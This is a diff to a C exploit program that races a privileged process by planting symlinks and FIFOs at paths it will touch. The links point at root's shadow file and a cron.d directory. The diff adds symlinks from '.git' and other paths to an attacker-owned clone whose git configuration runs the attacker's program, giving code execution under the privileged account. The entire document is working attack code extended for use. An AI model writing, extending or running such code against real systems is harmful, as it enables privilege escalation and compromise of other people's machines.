@@ -23,6 +23,8 @@
 #define FILE_OF_ROOT "/srv/outside/shadow"
 #define DIRECTORY_OF_ROOT "/srv/outside/cron.d"
 #define ENTRY_OF_ROOT "/srv/outside/cron.d/entry"
+/* A clone in whose configuration stands a program of hers. */
+#define OWN_CLONE "/home/alice/evil"
 #define MANY 16384
 
 static char watched[MANY][256];
@@ -63,13 +65,15 @@ static void plant(const char *path) {
         snprintf(inside, sizeof inside, "%s/%s", path, directories[i]);
         if (symlink(DIRECTORY_OF_ROOT, inside)) continue;
     }
+    snprintf(inside, sizeof inside, "%s/.git", path);
+    if (symlink(OWN_CLONE "/.git", inside)) errno = 0;
 }
 
 /* Puts something of hers at a path where nothing is. */
 static int lay(const char *path, int trick) {
     char own[PATH_MAX + 8];
     int fd;
-    switch (trick % 7) {
+    switch (trick % 8) {
     case 0: return symlink(FILE_OF_ROOT, path);
     case 1: return symlink(ENTRY_OF_ROOT, path);
     case 2: return symlink(DIRECTORY_OF_ROOT, path);
@@ -82,7 +86,8 @@ static int lay(const char *path, int trick) {
     case 5:
         if (fifo_count < 64) snprintf(fifos[fifo_count++], sizeof fifos[0], "%s", path);
         return mkfifo(path, 0666);
-    default: plant(path); return 0;
+    case 6: plant(path); return 0;
+    default: return symlink(OWN_CLONE, path);
     }
 }
 
@@ -94,7 +99,8 @@ static void forestall(const char *directory) {
     for (char *name = strtok_r(list, " ", &rest); name; name = strtok_r(NULL, " ", &rest)) {
         snprintf(path, sizeof path, "%s/%s", directory, name);
         if (!lstat(path, &meta)) continue;
-        if (!lay(path, moves++ % 4)) tricks++;
+        static const int links[] = {0, 1, 2, 3, 7};
+        if (!lay(path, links[moves++ % 5])) tricks++;
         return;
     }
 }
